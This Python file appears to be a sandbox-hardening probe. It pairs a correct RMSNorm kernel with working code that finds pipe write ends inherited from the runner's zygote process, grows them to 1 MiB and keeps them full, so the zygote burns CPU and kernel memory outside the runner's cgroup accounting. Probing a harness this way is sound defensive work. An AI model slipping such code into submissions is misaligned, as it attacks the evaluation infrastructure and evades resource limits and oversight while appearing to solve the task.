"""Class: leaks and gaps (a descriptor of another process inherited by every forked runner).

Tries: a runner forked by the runner zygote keeps the zygote's open descriptors that the fork
does not close: among them the write end of the zygote's signal wakeup pipe (`serve`'s `wake_w`;
the child closes `wake_r` and unsets the wakeup fd, but not the write end). It looks for pipe
write ends it did not open, grows the pipe to 1 MiB (F_SETPIPE_SZ: kernel memory held by the
zygote, which no runner's memory watch counts) and, during each of its calls, keeps it full: the
zygote, a process outside the runner's cgroup that is never stopped with it, wakes and drains it
4 KiB at a time, so its CPU burns for the solution; what it writes, the zygote reads. Computes the
right answer. Expect: no descriptor of another process in the runner, or the zygote unharmed.
"""
import fcntl
import os
import stat

import torch

F_SETPIPE_SZ = 1031
_report = []
_fds = []
_sent = [0]


def _find():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            st = os.fstat(fd)
            link = os.readlink(f"/proc/self/fd/{fd}")
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) and flags & os.O_ACCMODE == os.O_WRONLY:
            try:
                size = fcntl.fcntl(fd, F_SETPIPE_SZ, 1 << 20)
            except OSError as e:
                size = f"not grown ({e.strerror})"
            _fds.append(fd)
            _report.append(f"fd {fd} -> {link} (write end, pipe size {size})")


def _flood(budget=1 << 22):
    chunk = b"\x11" * 65536
    for fd in _fds:
        os.set_blocking(fd, False)
        n = 0
        while n < budget:
            try:
                n += os.write(fd, chunk)
            except BlockingIOError:
                break
            except OSError as e:
                _report.append(f"write fd {fd}: {e.strerror}")
                break
        _sent[0] += n


_find()
_flood()
print("ZYGOTE REPORT: " + ("; ".join(_report) or "no foreign pipe") + f"; wrote {_sent[0]} bytes", flush=True)


def run(x, weight, eps):
    _flood()
    xf = x.float()
    return (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).half()
